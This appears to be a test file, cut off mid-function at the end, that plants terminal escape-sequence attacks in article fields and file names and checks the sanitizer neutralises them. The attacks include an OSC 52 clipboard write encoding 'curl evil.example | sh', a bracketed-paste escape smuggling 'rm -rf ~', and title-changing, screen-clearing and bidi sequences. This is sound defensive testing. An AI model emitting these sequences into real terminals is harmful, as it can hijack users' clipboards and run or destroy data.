/**
 * Hostile text: a library of real terminal attacks placed in every field a view draws
 * (article date, title, body, comment author and text, and the source path: a file NAME
 * holding control characters), fed through
 *   (a) `--print` (the bytes on stdout, piped and in a terminal with colour),
 *   (b) the pure view layer (explorer state -> threadWindow / searchWindow / pickerWindow /
 *       articleRow / focusPosition / helpLines, and the whole App as ink frames, status bar
 *       included),
 *   (c) the real explorer under `script`, every byte it writes to the terminal checked
 *       against the few sequences comb itself emits,
 *   (d) the copy texts (`y` / `Y`),
 * and `--json`, which must keep every raw value exactly (JSON-escaped).
 *
 * What counts as unsafe on a terminal: any C0 control (a line may keep none; multi-line
 * text only `\n`), DEL, any C1 code point, a bidi control (embeddings and overrides
 * U+202A-U+202E, isolates U+2066-U+2069, and the marks U+200E, U+200F, U+061C) and a lone
 * surrogate. The sanitizer shows each as a visible stand-in (`^[`, `<9b>`, `<RLO>`, U+FFFD).
 */
import {Buffer} from 'node:buffer';
import {spawn} from 'node:child_process';
import {mkdirSync, mkdtempSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import process from 'node:process';
import {render} from 'ink-testing-library';
import {createElement} from 'react';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {App} from '../../source/ui/app.js';
import type {Action} from '../../source/explorer/actions.js';
import {listColumns, listRow, measureList} from '../../source/layout/list-columns.js';
import {commentCopy, threadCopy} from '../../source/output/copy-text.js';
import {createExplorerContext} from '../../source/explorer/explorer-context.js';
import type {ExplorerState, SearchHit} from '../../source/explorer/explorer-state.js';
import type {ScreenLine} from '../../source/layout/layout.js';
import type {ExplorerContext} from '../../source/explorer/context.js';
import {initialState, reduce} from '../../source/explorer/reducer.js';
import {parseText} from '../../source/parse/parse.js';
import {pickerWindow, searchWindow, type PromptWindow} from '../../source/screens/prompt-window.js';
import {sanitizeLine, sanitizeText} from '../../source/text/sanitize.js';
import {search} from '../../source/search/search.js';
import {buildSearchIndex} from '../../source/search/search-index.js';
import {focusPosition, threadWindow} from '../../source/screens/thread-window.js';
import type {Article, Thread} from '../../source/model/types.js';
import {helpLines} from '../../source/screens/help-text.js';
import {parseArticles} from '../support/json-shape.js';
import {cli, runComb, type CombRun} from '../support/run-comb.js';

// ---------------------------------------------------------------------------------------
// The attack library

/** One attack: a name for the test title and the text planted in a field. */
interface Attack {
	readonly name: string;
	readonly text: string;
}

const range = (from: number, to: number): string =>
	String.fromCodePoint(...Array.from({length: to - from + 1}, (_, index) => from + index));

const attacks: readonly Attack[] = [
	{name: 'screen clear CSI 2J', text: 'x\u001B[2Jy'},
	{name: 'full reset ESC c (RIS)', text: 'x\u001Bcy'},
	{name: 'window title OSC 0, BEL-terminated', text: '\u001B]0;pwned title\u0007'},
	{name: 'window title OSC 2, ST-terminated', text: '\u001B]2;pwned title\u001B\\'},
	{name: 'clipboard write OSC 52', text: '\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007'},
	{name: 'hyperlink OSC 8', text: '\u001B]8;;https://evil.example/\u001B\\innocent link\u001B]8;;\u001B\\'},
	{name: 'cursor home CSI H and position CSI 10;10H', text: 'a\u001B[Hb\u001B[10;10Hc'},
	{name: 'cursor up CSI 5A and down CSI 3B', text: 'a\u001B[5Ab\u001B[3Bc'},
	{name: 'bracketed paste end CSI 201~', text: '\u001B[201~rm -rf ~\r\u001B[200~'},
	{name: 'DECRQSS request (DCS $q)', text: '\u001BP$q"p\u001B\\'},
	{name: 'APC string', text: '\u001B_application program command\u001B\\'},
	{name: 'PM and SOS strings', text: '\u001B^privacy message\u001B\\ \u001BXstart of string\u001B\\'},
	{name: '8-bit CSI U+009B', text: '\u009B2J\u009B31m'},
	{name: '8-bit OSC U+009D with 8-bit ST', text: '\u009D0;pwned\u009C'},
	{name: '8-bit DCS U+0090', text: '\u0090$q"p\u009C'},
	{name: 'BEL', text: 'ding\u0007dong\u0007'},
	{name: 'backspace overwrite', text: 'good\b\b\b\bevil'},
	{name: 'carriage-return overwrite', text: 'fake\rreal'},
	{name: 'DEL', text: 'x\u007Fy'},
	{name: 'NUL', text: 'a\u0000b'},
	{name: 'every C0 control', text: `<${range(0x00, 0x1f)}>`},
	{name: 'every C1 control', text: `<${range(0x80, 0x9f)}>`},
	{name: 'bidi embeddings and overrides U+202A-U+202E', text: 'abc\u202Adef\u202Bghi\u202Cjkl\u202Dmno\u202Epqr'},
	{name: 'bidi isolates U+2066-U+2069', text: 'abc\u2066def\u2067ghi\u2068jkl\u2069mno'},
	{name: 'bidi marks U+200E, U+200F, U+061C', text: 'a\u200Eb\u200Fc\u061Cd'},
	{name: 'lone surrogates', text: 'a\uD800b\uDFFFc\uDC00'},
	{name: 'everything at once', text: `\u001B[2J\u001Bc\u001B]0;t\u0007\u009B2J\u202E\u2066\rover\b\u007F\u0000\uD800`},
];

/** Lines a value becomes when planted in a one-line field (title, author). */
function oneLine(text: string): string {
	return text.replaceAll('\n', '');
}

// ---------------------------------------------------------------------------------------
// What is safe

const unsafeCodePoint = /[\u0000-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]|[\uD800-\uDFFF]/u;
const unsafeCodePoints = new RegExp(unsafeCodePoint.source, 'gu');

/** comb's own OSC 8 hyperlinks: an http, https or mailto URL without control characters or spaces, or the closing one. */
const osc8 = /\u001B\]8;;(?:(?:https?:\/\/|mailto:)[^\u0000-\u0020\u007F-\u009F]*?)?(?:\u001B\\|\u0007)/gu;

/** The unsafe code points of `text` (`\n` allowed when `isMultiLine`), named, for readable failures. */
function unsafeIn(text: string, isMultiLine = false): string[] {
	const found: string[] = [];
	for (const match of text.matchAll(unsafeCodePoints)) {
		if (isMultiLine && match[0] === '\n') {
			continue;
		}
		found.push(`U+${match[0].codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')} at ${match.index}`);
	}
	return found;
}

function expectSafe(text: string, where: string, isMultiLine = false): void {
	const found = unsafeIn(text, isMultiLine);
	if (found.length > 0) {
		expect.fail(
			`${where}: unsafe ${found.slice(0, 5).join(', ')}${found.length > 5 ? ` (+${found.length - 5})` : ''} in ${JSON.stringify(text.slice(0, 300))}`,
		);
	}
}

function expectSafeLine(line: ScreenLine, where: string): void {
	for (const segment of line) {
		expectSafe(segment.text, where);
	}
}

function expectSafeWindow(window: PromptWindow, where: string): void {
	for (const text of [window.title, window.input, window.sigil, window.status]) {
		expectSafe(text, `${where} (bar or input)`);
	}
	window.rows.forEach((row, index) => expectSafeLine(row, `${where} row ${index}`));
}

// ---------------------------------------------------------------------------------------
// (b) The pure view layer

/**
 * The shape every hostile article has: a head, two top-level threads, and a reply chain
 * deeper than the guides can draw at 60 columns (so the status bar names the authors above).
 *
 *   T
 *   ├─ a ── b
 *   └─ c ── d0 ── d1 ── ... ── d11
 */
const template = (() => {
	const lines = [
		'JULY 2020',
		'',
		'T',
		'',
		'B',
		'',
		'  • a',
		'',
		'    t',
		'',
		'    • b',
		'',
		'      t',
		'',
		'  • c',
		'',
		'    t',
		'',
	];
	for (let depth = 0; depth < 12; depth++) {
		const indent = ' '.repeat(4 + depth * 2);
		lines.push(`${indent}• d${depth}`, '', `${indent}  t`, '');
	}
	return parseText(lines.join('\n'), 'template.txt')[0]!;
})();

/** The template with `attack` in every field: date, title, body, source, every author and text. */
function hostileArticle(attack: string, index: number): Article {
	const thread: Thread = {
		...template.thread,
		author: template.thread.author.map((_, row) => `A${row}${attack}A`),
		text: template.thread.text.map((_, row) => `needle ${row}\n${attack}\nend ${attack}`),
	};
	return {
		source: `dir/${index}${attack}.txt`,
		date: attack,
		title: `T${attack}T`,
		body: `B${attack}\n\n${attack}B`,
		thread,
	};
}

/** The same attack with no title: views then name the article by its source's file name. */
function untitledArticle(attack: string): Article {
	return {...hostileArticle(attack, 99), title: null, date: null, body: ''};
}

function apply(state: ExplorerState, actions: readonly Action[], context: ExplorerContext): ExplorerState {
	let next = state;
	for (const action of actions) {
		next = reduce(next, action, context);
	}
	return next;
}

/** Every line of the open article's window in `state`, checked. */
function checkThreadWindow(state: ExplorerState, context: ExplorerContext, where: string): void {
	const thread = state.thread!;
	for (const line of threadWindow(state, thread, context)) {
		expectSafeLine(line.line, `${where}, line ${line.key}`);
	}
	for (const ascii of [false, true]) {
		expectSafe(focusPosition(state, thread, context, ascii), `${where}, status position`);
	}
}

function hitsOf(articles: readonly Article[], query: string): SearchHit[] {
	return search(buildSearchIndex(articles), query, {scope: 'all', limit: 500}).matches.map(
		({article, row, textRanges, authorRanges}) => ({article, row, textRanges, authorRanges}),
	);
}

describe('(b) the view layer draws hostile fields sanitized', () => {
	for (const {name, text} of attacks) {
		describe(name, () => {
			const articles = [hostileArticle(text, 0), untitledArticle(text), hostileArticle(text, 2)];

			it('article list rows (date, title, counts, source), in Unicode and ASCII, wide and narrow', () => {
				for (const article of articles) {
					for (const width of [20, 60, 200]) {
						for (const ascii of [false, true]) {
							for (const showSource of [false, true]) {
								expectSafe(
									listRow(article, listColumns({...measureList([article]), needsSource: showSource}, width), ascii),
									`listRow width ${width}`,
								);
							}
						}
					}
				}
			});

			it('thread window and status position while moving, folding, in compact view, with the body folded, marked and filtered', () => {
				for (const ascii of [false, true]) {
					const context = createExplorerContext(articles, ascii);
					for (const [columns, rows] of [
						[60, 20],
						[200, 60],
						[24, 8],
					] as const) {
						let state = apply(initialState(articles.length, columns, rows), [{type: 'openArticle', index: 0}], context);
						checkThreadWindow(state, context, `head ${columns}x${rows}`);
						for (let step = 0; step < template.thread.size; step++) {
							state = reduce(state, {type: 'moveDown', count: 1}, context);
							checkThreadWindow(state, context, `moved ${step + 1} ${columns}x${rows}`);
						}
						for (const action of [
							'toggleCompact',
							'toggleBody',
							'foldAll',
							'toggleStarterMarks',
							'toggleAuthorMarks',
							'first',
						] as const) {
							state = reduce(state, {type: action}, context);
							checkThreadWindow(state, context, `${action} ${columns}x${rows}`);
						}
						state = apply(
							state,
							[{type: 'unfoldAll'}, {type: 'setFilter', authors: [articles[0]!.thread.author[5]!]}, {type: 'last'}],
							context,
						);
						checkThreadWindow(state, context, `filtered ${columns}x${rows}`);
						const untitled = apply(state, [{type: 'back'}, {type: 'back'}, {type: 'openArticle', index: 1}], context);
						checkThreadWindow(untitled, context, `untitled article ${columns}x${rows}`);
					}
				}
			});

			it('search prompt results (this article and all articles) and the highlighted matches after a jump', () => {
				const context = createExplorerContext(articles, false);
				const results = hitsOf(articles, 'needle');
				expect(results.length).toBeGreaterThan(0);
				for (const scope of ['list', 'thread'] as const) {
					const start = initialState(articles.length, 80, 24);
					let state = apply(start, scope === 'thread' ? [{type: 'openArticle', index: 1}] : [], context);
					state = apply(
						state,
						[
							{type: 'openSearch'},
							{type: 'typeText', text: 'needle'},
							{type: 'searchResults', query: 'needle', results},
						],
						context,
					);
					expectSafeWindow(searchWindow(state, state.prompt!, context, false), `search from ${scope}`);
					expectSafeWindow(searchWindow(state, state.prompt!, context, true), `search from ${scope}, ASCII`);
					state = apply(state, [{type: 'moveDown', count: 3}, {type: 'accept'}], context);
					expect(state.thread?.search).not.toBeNull();
					checkThreadWindow(state, context, `after the jump from ${scope}`);
					state = reduce(state, {type: 'nextMatch'}, context);
					checkThreadWindow(state, context, `next match from ${scope}`);
				}
			});

			it('author picker entries, in this article and in all', () => {
				const context = createExplorerContext(articles, false);
				let state = apply(initialState(articles.length, 80, 24), [{type: 'openPicker'}], context);
				expectSafeWindow(pickerWindow(state, state.picker!, context, false), 'picker on the list');
				state = apply(
					state,
					[{type: 'typeText', text: 'A'}, {type: 'togglePick'}, {type: 'moveDown', count: 1}, {type: 'togglePick'}],
					context,
				);
				expectSafeWindow(pickerWindow(state, state.picker!, context, true), 'picker narrowed');
				state = apply(state, [{type: 'back'}, {type: 'openArticle', index: 0}, {type: 'openPicker'}], context);
				expectSafeWindow(pickerWindow(state, state.picker!, context, false), 'picker in an article');
			});

			it('copy texts: y (one comment) and Y (a thread) hold no control character but \\n', () => {
				for (const article of articles) {
					for (let row = 0; row < article.thread.size; row++) {
						expectSafe(commentCopy(article.thread, row), `commentCopy row ${row}`, true);
					}
					expectSafe(threadCopy(article.thread, 0), 'threadCopy of the first thread', true);
					expectSafe(threadCopy(article.thread, 2), 'threadCopy of the chain', true);
				}
			});
		});
	}

	it('help lines (no data in them, but drawn on the same screen)', () => {
		for (const [columns, rows] of [
			[40, 20],
			[80, 24],
			[200, 60],
		] as const) {
			for (const ascii of [false, true]) {
				helpLines(columns, rows, ascii).forEach((line, index) => expectSafe(line, `help line ${index}`));
			}
		}
	});

	it('the typed query is drawn sanitized in the search prompt and the picker (a pasted bidi control, or --search with an escape)', () => {
		// Typing filters C0/C1 keys, but a paste can carry U+202E and `--search` passes its
		// value as it is: both end up in `prompt.query`, which the prompt line shows.
		const articles = [hostileArticle('plain', 0)];
		const context = createExplorerContext(articles, false);
		for (const query of ['\u202Eenildeen', 'needle\u2066', '\u001B]0;pwned\u0007needle']) {
			const searching = apply(initialState(1, 80, 24), [{type: 'startSearch', query}], context);
			expectSafe(
				searchWindow(searching, searching.prompt!, context, false).input,
				`search input ${JSON.stringify(query)}`,
			);
			const picking = apply(initialState(1, 80, 24), [{type: 'openPicker'}, {type: 'typeText', text: query}], context);
			expectSafe(pickerWindow(picking, picking.picker!, context, false).input, `picker input ${JSON.stringify(query)}`);
		}
	});
});

// ---------------------------------------------------------------------------------------
// (b) The whole App, as ink frames: bars, status, notices

/** A macrotask or three: ink-testing-library needs them after each write before the frame is read. */
async function tick(times = 3): Promise<void> {
	for (let i = 0; i < times; i++) {
		await new Promise((resolve) => setImmediate(resolve));
	}
}

/** Waits until the frame passes `test` (searches run in steps between frames). */
async function frameWhen(lastFrame: () => string | undefined, test: (frame: string) => boolean): Promise<string> {
	for (let i = 0; i < 200; i++) {
		const frame = lastFrame() ?? '';
		if (test(frame)) {
			return frame;
		}
		await new Promise((resolve) => setTimeout(resolve, 5));
	}
	throw new Error(`frame never matched; last was:\n${lastFrame()}`);
}

describe('(b) the App draws every screen of hostile articles sanitized (title bar, rows, status, notices)', () => {
	it.each(attacks.map((attack) => [attack.name, attack.text] as const))('%s', async (_name, text) => {
		const articles = [hostileArticle(text, 0), untitledArticle(text), hostileArticle(text, 2)];
		const copies: string[] = [];
		const frames: string[] = [];
		const app = render(
			createElement(App, {
				articles,
				theme: {color: true, ascii: false},
				columns: 70,
				rows: 22,
				onQuit: () => {},
				onCopy: (copied: string) => {
					copies.push(copied);
					return {isCut: false};
				},
			}),
		);
		const press = async (...keys: string[]): Promise<void> => {
			for (const key of keys) {
				app.stdin.write(key);
				await tick();
				frames.push(app.lastFrame() ?? '');
			}
		};
		await tick();
		frames.push(app.lastFrame() ?? '');
		await press('j', '\r', 'j', 'j', 'j', 'j', 'y', 'Y', 'o', 'm', 'v', 'v', 't', 'G');
		await press('/');
		await press(...'needle');
		frames.push(await frameWhen(app.lastFrame, (frame) => /\d+ match/.test(frame)));
		await press('\t');
		frames.push(await frameWhen(app.lastFrame, (frame) => /\d+ match/.test(frame) && frame.includes('all articles')));
		await press('\r');
		frames.push(await frameWhen(app.lastFrame, (frame) => frame.includes('match 1/')));
		await press('n', 'a', ' ', '\r', 'q', '?', 'x', 'a', '\t', '\u001B', 'q');
		app.unmount();
		expect(copies.length).toBe(2);
		for (const copied of copies) {
			expectSafe(copied, 'copied text', true);
		}
		frames.forEach((frame, index) =>
			expectSafe(frame.replaceAll(/\u001B\[[\d;]*m/g, '').replaceAll(osc8, ''), `frame ${index}`, true),
		);
	});
});

// ---------------------------------------------------------------------------------------
// Hostile files on disk, for (a), (c) and --json

/**
 * Bytes for a string, lone surrogates included: UTF-8, except that a lone surrogate is
 * written as the three bytes it would have (`ED A0 80` ...), which is what a careless
 * producer writes and what a decoder must turn into U+FFFD.
 */
function wtf8(text: string): Buffer {
	const bytes: number[] = [];
	for (let i = 0; i < text.length; i++) {
		const unit = text.charCodeAt(i);
		const next = text.charCodeAt(i + 1);
		if (unit >= 0xd800 && unit <= 0xdbff && next >= 0xdc00 && next <= 0xdfff) {
			bytes.push(...Buffer.from(text.slice(i, i + 2), 'utf8'));
			i++;
		} else if (unit >= 0xd800 && unit <= 0xdfff) {
			bytes.push(0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f));
		} else {
			bytes.push(...Buffer.from(text[i]!, 'utf8'));
		}
	}
	return Buffer.from(bytes);
}

/** What comb reads back from `wtf8(text)`: the same decoder, so lone surrogates are U+FFFD. */
function decoded(text: string): string {
	return wtf8(text).toString('utf8');
}

/**
 * Dates that hold a control character and still look like dates: only whitespace splits a
 * date's words, so CR, VT, FF and TAB are all an attacker can put there (any other control
 * makes the line a title instead, which is checked too).
 */
const hostileDates = ['2020\rJULY', 'March\u000B26,\u000C2020', 'Thu\t26\u00A0March\u20032020'];

/** What one attack article holds, as `--json` must give it back. */
interface Expected {
	readonly date: string | null;
	readonly title: string;
	readonly body: string;
	readonly author: string;
	readonly text: string;
	readonly replyAuthor: string;
	readonly replyText: string;
}

/** Multi-line values: every line wrapped in `<...>`, so no line is blank or trimmed. */
function wrapped(prefix: string, text: string): string[] {
	return text.split('\n').map((part) => `${prefix}<${part}>`);
}

/** One article per attack: hostile date, title, body, author, text; a reply with the same. */
function attackArticle(attack: Attack, index: number): {text: string; expected: Expected} {
	const date = hostileDates[index % hostileDates.length]!;
	const title = `T${index}<${oneLine(attack.text)}>`;
	const body = wrapped('B', attack.text);
	const author = `A${index}<${oneLine(attack.text)}>`;
	const text = [`needle ${index}`, ...wrapped('C', attack.text)];
	const replyAuthor = `R${index}<${oneLine(attack.text)}>`;
	const replyText = [`needle reply ${index}`, ...wrapped('D', attack.text)];
	const lines = [
		date,
		'',
		title,
		'',
		...body,
		'',
		`  • ${author}`,
		'',
		...text.map((line) => `    ${line}`),
		'',
		`    • ${replyAuthor}`,
		'',
		...replyText.map((line) => `      ${line}`),
		'',
	];
	return {
		text: lines.join('\n'),
		expected: {
			date,
			title,
			body: body.join('\n'),
			author,
			text: text.join('\n'),
			replyAuthor,
			replyText: replyText.join('\n'),
		},
	};
}

/**
 * File names with control characters (a name can hold any byte but NUL and `/`): escape
 * sequences; every other C0 control, newline included; every C1 control, DEL and the bidi
 * controls.
 */
const hostileNames = [
	'esc\u001B]0;pwned\u0007\u001B[2J\u001B]52;c;cHduZWQ=\u0007\u001B]8;;evil\u001B\\\u009B2J\u001B[201~.txt',
	`c0${range(0x01, 0x1f)}.txt`,
	`c1${range(0x80, 0x9f)}\u007F\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069.txt`,
];
const binaryName = 'bin\u001B]0;pwned\u0007\u009B2J\u202E.txt';

let work = '';
let folder = '';
const expectedArticles: Expected[] = [];

beforeAll(() => {
	work = mkdtempSync(join(tmpdir(), 'comb-escapes-'));
	folder = join(work, 'in');
	mkdirSync(folder);
	// The first file opens with 70 KB of filler, so the NUL attacks sit past the first
	// 64 KiB (a NUL earlier makes the file binary); then one article per attack.
	const pieces: Buffer[] = [Buffer.from(`Filler\n\n${'filler line of plain text\n'.repeat(2800)}\f\n`)];
	attacks.forEach((attack, index) => {
		const {text, expected} = attackArticle(attack, index);
		pieces.push(wtf8(text));
		expectedArticles.push(expected);
	});
	// An escape in the date line: not a date, so it is the title.
	pieces.push(Buffer.from('\u001B]0;date\u0007 2020\n\nnot a date\n\n  • x\n\n    needle\n'));
	writeFileSync(join(folder, hostileNames[0]!), Buffer.concat(pieces));
	// Untitled articles (they start with a comment): views name them by the file name.
	for (const name of hostileNames.slice(1)) {
		writeFileSync(join(folder, name), '  • untitled author\n\n    needle in an untitled article\n');
	}
	writeFileSync(join(folder, binaryName), 'binary\u0000\n');
});

afterAll(() => {
	if (work !== '') {
		rmSync(work, {recursive: true, force: true});
	}
});

/** comb in the work folder, stdout as bytes; NO_COLOR and FORCE_COLOR are taken out of the environment (COMB_DEBUG stays). */
function comb(args: readonly string[]): Promise<CombRun<Buffer>> {
	return runComb(args, {cwd: work, unsetEnv: ['NO_COLOR', 'FORCE_COLOR'], stdoutAs: 'buffer'});
}

/** The bytes as UTF-8, refusing invalid sequences (a raw 8-bit C1 byte would be one). */
function strictUtf8(bytes: Buffer): string {
	return new TextDecoder('utf-8', {fatal: true}).decode(bytes);
}

describe('--json keeps the raw values exactly', () => {
	it('every attack, in every field and in the file names, JSON-escaped', async () => {
		const run = await comb(['--json', 'in']);
		expect(run.code).toBe(0);
		const stdout = strictUtf8(run.stdout);
		// JSON escapes C0 controls; nothing else is touched.
		expect(
			unsafeIn(stdout.slice(0, -1)).filter(
				(found) => found.startsWith('U+00') && Number.parseInt(found.slice(2, 6), 16) < 0x20,
			),
		).toEqual([]);
		const articles = parseArticles(stdout);
		const sources = [...new Set(articles.map((article) => article.source))].sort();
		expect(sources).toEqual(hostileNames.map((name) => `in/${name}`).sort());
		const attackArticles = articles.filter((article) => article.source === `in/${hostileNames[0]}`);
		expect(attackArticles).toHaveLength(attacks.length + 2);
		attacks.forEach((attack, index) => {
			const article = attackArticles[index + 1]!;
			const expected = expectedArticles[index]!;
			const where = attack.name;
			expect(article.date, where).toBe(expected.date);
			expect(article.title, where).toBe(decoded(expected.title));
			expect(article.body, where).toBe(decoded(expected.body));
			expect(article.comments, where).toHaveLength(1);
			const comment = article.comments[0]!;
			expect(comment.author, where).toBe(decoded(expected.author));
			expect(comment.text, where).toBe(decoded(expected.text));
			expect(
				comment.replies.map((reply) => [reply.author, reply.text]),
				where,
			).toEqual([[decoded(expected.replyAuthor), decoded(expected.replyText)]]);
		});
		const last = attackArticles.at(-1)!;
		expect([last.date, last.title, last.body]).toEqual([null, '\u001B]0;date\u0007 2020', 'not a date']);
		for (const name of hostileNames.slice(1)) {
			const untitled = articles.find((article) => article.source === `in/${name}`)!;
			expect(untitled.title).toBeNull();
		}
		// Lone surrogates cannot be stored as UTF-8: they come back as U+FFFD, never raw.
		expect(stdout).not.toMatch(/[\uD800-\uDFFF]/u);
	});
});

describe('(a) --print shows every attack as visible text', () => {
	it('piped: no escape at all, no control but \\n, no C1, no bidi control; each value drawn sanitized, exactly', async () => {
		const run = await comb(['--print', '--width', '100000', 'in']);
		expect(run.code).toBe(0);
		const stdout = strictUtf8(run.stdout);
		expectSafe(stdout, 'stdout', true);
		const lines = new Set(stdout.split('\n').map((line) => line.trim()));
		attacks.forEach((attack, index) => {
			const expected = expectedArticles[index]!;
			expect(lines, `${attack.name}: title`).toContain(sanitizeLine(decoded(expected.title)));
			expect(stdout, `${attack.name}: date`).toContain(sanitizeLine(expected.date!));
			for (const line of sanitizeText(decoded(expected.body)).split('\n')) {
				expect(stdout, `${attack.name}: body`).toContain(line);
			}
			expect(stdout, `${attack.name}: author`).toContain(sanitizeLine(decoded(expected.author)));
			for (const line of sanitizeText(decoded(expected.text)).split('\n')) {
				expect(stdout, `${attack.name}: comment text`).toContain(line);
			}
		});
		for (const name of hostileNames) {
			// A TAB expands to the next multiple of 8 columns of the line it is in: compare the pieces around it.
			for (const piece of `in/${name}`.split('\t')) {
				expect(stdout, 'source path').toContain(sanitizeLine(piece));
			}
		}
		expect(stdout).toContain(`(untitled: ${sanitizeLine(`in/${hostileNames[2]}`)})`);
	});

	it('piped at 100 columns, in ASCII too: still nothing unsafe', async () => {
		for (const args of [
			['--print', '--width', '100', 'in'],
			['--print', '--width', '30', '--ascii', 'in'],
		]) {
			const run = await comb(args);
			expect(run.code).toBe(0);
			expectSafe(strictUtf8(run.stdout), args.join(' '), true);
		}
	});

	it("in a terminal with colour: comb's own SGR sequences are the only escapes", async () => {
		const {code, output} = await runInTerminal(`node ${JSON.stringify(cli)} --print --width 100 in`, []);
		expect(code).toBe(0);
		expect(output).toContain('\u001B[1m');
		const text = output.replaceAll(/\u001B\[[\d;]*m/g, '').replaceAll('\r\n', '\n');
		expectSafe(text, 'terminal', true);
		expect(text).toContain('^[[2J');
		expect(text).toContain('<9b>2J');
		expect(text).toContain('<RLO>');
	});

	it("the folder's binary file with a hostile name is skipped with a sanitized warning", async () => {
		const run = await comb(['--print', 'in']);
		expect(run.code).toBe(0);
		expect(run.stderr).toContain('skipping in/bin^[]0;pwned^G<9b>2J<RLO>.txt: binary file');
		expectSafe(run.stderr, 'stderr', true);
	});

	it('a hostile file name given on the command line is named sanitized in the error', async () => {
		const run = await comb(['--print', join('in', binaryName), join('in', 'missing\u001B[2J\u0007.txt')]);
		expect(run.code).toBe(2);
		expect(run.stderr).toContain('cannot read in/bin^[]0;pwned^G<9b>2J<RLO>.txt: binary file');
		expect(run.stderr).toContain('cannot read in/missing^[[2J^G.txt: no such file or directory');
		expectSafe(run.stderr, 'stderr', true);
	});
});

// ---------------------------------------------------------------------------------------
// (c) The real explorer in a pseudo-terminal

/**
 * The escape sequences comb itself writes in the explorer: the alternate screen and the
 * cursor (`?1049`, `?25`), home and clear, `row;1H` positioning (always column 1),
 * erase line / below, scroll regions (DECSTBM), IND and RI, SGR, SGR mouse reporting on
 * and off (`?1000`, `?1006`), and its own OSC 8 hyperlinks (see osc8).
 */
const combSequences =
	/\u001B\[\?(?:1000|1006)[hl]|\u001B\]8;;(?:(?:https?:\/\/|mailto:)[^\u0000-\u0020\u007F-\u009F]*?)?(?:\u001B\\|\u0007)|\u001B\[\?(?:1049|25)[hl]|\u001B\[H|\u001B\[2J|\u001B\[J|\u001B\[K|\u001B\[\d+;1H|\u001B\[\d+;\d+r|\u001B\[r|\u001BD|\u001BM|\u001B\[[\d;]*m/g;

/**
 * Runs `command` under `script` (a pseudo-terminal, 100x30) and types `steps` into it: each
 * step waits until the screen output since the previous step shows `until` (escapes
 * stripped), then types its keys. Resolves with the exit status and every byte written
 * to the terminal.
 */
function runInTerminal(
	command: string,
	steps: ReadonlyArray<{readonly until?: string | RegExp; readonly keys: string}>,
	timeout = 20_000,
): Promise<{code: number | null; output: string; bytes: Buffer}> {
	return new Promise((resolve, reject) => {
		const env: NodeJS.ProcessEnv = {...process.env, TERM: 'xterm-256color', LANG: 'C.UTF-8', LC_ALL: 'C.UTF-8'};
		delete env['NO_COLOR'];
		delete env['FORCE_COLOR'];
		delete env['CI'];
		delete env['TMUX'];
		const child = spawn('script', ['-qfec', `stty cols 100 rows 30; ${command}`, '/dev/null'], {
			cwd: work,
			env,
			stdio: ['pipe', 'pipe', 'pipe'],
		});
		const chunks: Buffer[] = [];
		let seen = 0;
		let step = 0;
		let isDone = false;
		const timer = setTimeout(() => {
			child.kill('SIGKILL');
			reject(
				new Error(
					`${command} did not finish within ${timeout} ms at step ${step}; output so far:\n${visible(Buffer.concat(chunks).toString('utf8'))}`,
				),
			);
		}, timeout);
		const advance = (): void => {
			while (!isDone && step < steps.length) {
				const {until, keys} = steps[step]!;
				const output = visible(Buffer.concat(chunks).toString('utf8').slice(seen));
				if (until !== undefined && !(typeof until === 'string' ? output.includes(until) : until.test(output))) {
					return;
				}
				seen = Buffer.concat(chunks).toString('utf8').length;
				step++;
				// A pause between keys, so each arrives as its own read.
				setTimeout(() => {
					child.stdin.write(keys);
					setTimeout(advance, 120);
				}, 60);
				return;
			}
		};
		child.stdout.on('data', (chunk: Buffer) => {
			chunks.push(chunk);
			advance();
		});
		child.stdin.on('error', () => {});
		child.on('close', (code) => {
			isDone = true;
			clearTimeout(timer);
			const bytes = Buffer.concat(chunks);
			resolve({code, output: bytes.toString('utf8'), bytes});
		});
		advance();
	});
}

/** Terminal output with comb's escape sequences removed: roughly the text drawn. */
function visible(output: string): string {
	return output.replaceAll(combSequences, '');
}

describe('(c) the explorer writes nothing to the terminal but its own sequences', () => {
	it('opening, moving, searching, jumping, picking an author, help, the untitled articles and quitting', async () => {
		const started = Date.now();
		const {code, output, bytes} = await runInTerminal(`node ${JSON.stringify(cli)} in`, [
			{until: 'articles', keys: 'jjj'},
			{keys: '\r'},
			{until: 'j/k move', keys: 'j'},
			{keys: 'jjj'},
			{keys: 'm'},
			{keys: '/'},
			{until: 'search this article', keys: 'needle'},
			{until: /\d+ match/, keys: '\t'},
			{until: /\d+ match/, keys: '\r'},
			{until: 'match 1/', keys: 'n'},
			{keys: 'a'},
			{until: 'filter by author', keys: ' '},
			{keys: '\r'},
			{until: 'filter:', keys: '?'},
			{keys: 'x'},
			{keys: '\u001B'},
			{keys: 'q'},
			{until: 'articles', keys: 'g'},
			{keys: '\r'},
			{until: 'j/k move', keys: 'q'},
			{until: 'articles', keys: 'j'},
			{keys: '\r'},
			{until: 'j/k move', keys: 'q'},
			{until: 'articles', keys: 'G'},
			{keys: '\r'},
			{until: 'j/k move', keys: 'q'},
			{until: 'articles', keys: 'q'},
		]);
		console.log(
			`explorer session under script: ${Date.now() - started} ms, ${bytes.length} bytes written to the terminal`,
		);
		expect(code).toBe(0);
		// Every byte is UTF-8: a raw 8-bit C1 byte (0x80-0x9f) would not be.
		const text = strictUtf8(bytes);
		expect(text).toBe(output);
		const rest = visible(text);
		const escapes = [...rest.matchAll(/\u001B.{0,12}/gsu)].map((match) => JSON.stringify(match[0]));
		expect(escapes, 'escape sequences comb does not emit itself').toEqual([]);
		// The terminal turns \n into \r\n and comb joins repainted rows with \r\n: CR only before LF or CR.
		expect(rest.replaceAll(/\r+\n/g, '\n').includes('\r'), 'a bare carriage return').toBe(false);
		expectSafe(rest.replaceAll(/\r+\n/g, '\n'), 'terminal output', true);
		// The attacks were drawn, as visible stand-ins.
		for (const standIn of ['^[]0;pwned title^G', '<9b>2J', '<RLO>', 'fake^Mreal', 'good^H^H^H^Hevil', '^@']) {
			expect(rest, standIn).toContain(standIn);
		}
	}, 30_000);

	it('echoes a query sanitized: a pasted bidi override in the prompt, an escape sequence given with --search', async () => {
		const {code, bytes} = await runInTerminal(
